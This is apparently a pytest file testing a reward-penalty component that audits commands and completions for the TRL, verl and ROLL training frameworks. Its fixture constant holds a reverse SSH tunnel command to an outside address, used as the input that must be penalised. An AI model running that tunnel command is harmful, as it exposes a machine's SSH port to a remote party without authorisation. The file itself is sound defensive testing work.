"""Penalties, by the signatures that TRL, verl and ROLL document for reward functions."""

from __future__ import annotations

import pickle
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from auditor import Auditor
from auditor.model.verdict import Verdict
from auditor.reward import StepPenalty, penalty

BAD = "ssh -f -N -R 2222:localhost:22 ops@203.0.113.5"
FENCED = f"I shall run it:\n\n```bash\n{BAD}\n```\n"


@pytest.fixture(scope="module")
def reward() -> Iterator[StepPenalty]:
    """Give a penalty whose engines stay warm."""
    with StepPenalty() as made:
        yield made


def test_a_report_has_a_penalty(warm: Auditor) -> None:
    """What is denied costs more than what is reviewed, and what is allowed nothing."""
    assert penalty(warm.audit(BAD, language="bash")) == -1.0
    assert penalty(warm.audit("ls", language="bash")) == 0.0
    assert penalty(warm.audit(BAD, language="bash"), {verdict: -7.0 for verdict in Verdict}) == -7.0


def test_a_batch(reward: StepPenalty) -> None:
    """One number for each text, in order; equal texts are audited once."""
    assert reward.batch(["ls", BAD, "ls", BAD]) == [0.0, -1.0, 0.0, -1.0]
    assert reward.batch([]) == []
    assert reward.step(f"import os\nos.system('{BAD}')", "python") == -1.0


def test_trl(reward: StepPenalty) -> None:
    """TRL calls `f(prompts=…, completions=…, **columns)` with texts, or with lists of messages."""
    arguments = f'{{"command": "{BAD}"}}'
    function = {"name": "bash", "arguments": arguments}
    call = {"role": "assistant", "content": "", "tool_calls": [{"id": "1", "type": "function", "function": function}]}
    assert reward(prompts=["p", "p"], completions=[FENCED, "just words; nothing runs"], answer=["a", "b"]) == [
        -1.0,
        0.0,
    ]
    assert reward(prompts=[[]], completions=[[{"role": "assistant", "content": FENCED}]]) == [-1.0]
    assert reward(prompts=[[]], completions=[[call, {"role": "tool", "content": BAD}]]) == [-1.0]
    assert reward.__name__
    assert reward.calls([{"role": "user", "content": FENCED}, call]) == [0.0, -1.0]


def test_verl(reward: StepPenalty) -> None:
    """What verl calls is `compute_score(data_source, solution_str, ground_truth, extra_info)`."""
    assert reward.compute_score("math", FENCED, "42", {"split": "train"}) == -1.0
    assert reward.compute_score(data_source="math", solution_str="the answer is 42", ground_truth="42") == 0.0
    solutions = [FENCED, "the answer is 42"]
    batch = reward.compute_scores(
        data_sources=["math"] * 2, solution_strs=solutions, ground_truths=["42"] * 2, extra_infos=[{}] * 2
    )
    assert batch == [-1.0, 0.0]


def test_roll(reward: StepPenalty) -> None:
    """An environment of ROLL has the step's action as a text: a command, or prose with one in it."""
    assert reward.compute_rewards([BAD, "ls", FENCED], env_id=3) == [-1.0, 0.0, -1.0]


def test_a_copy_starts_its_own_engines() -> None:
    """Frameworks send reward functions to other processes."""
    copy = pickle.loads(pickle.dumps(StepPenalty(penalties={verdict: -2.0 for verdict in Verdict})))
    with copy:
        assert copy.step("ls") == -2.0


def test_the_documented_example_runs() -> None:
    """docs/reward.md's first block, run as it stands, prints what the page says."""
    page = (Path(__file__).parent.parent / "docs" / "reward.md").read_text(encoding="utf-8")
    _, _, rest = page.partition("```python\n")
    example, _, after = rest.partition("```")
    done = subprocess.run([sys.executable, "-c", example], capture_output=True, text=True, timeout=50, check=False)
    assert done.returncode == 0, done.stderr
    printed = done.stdout.splitlines()
    assert len(printed) == 3
    assert all(f"`{line}`" in after for line in printed), printed
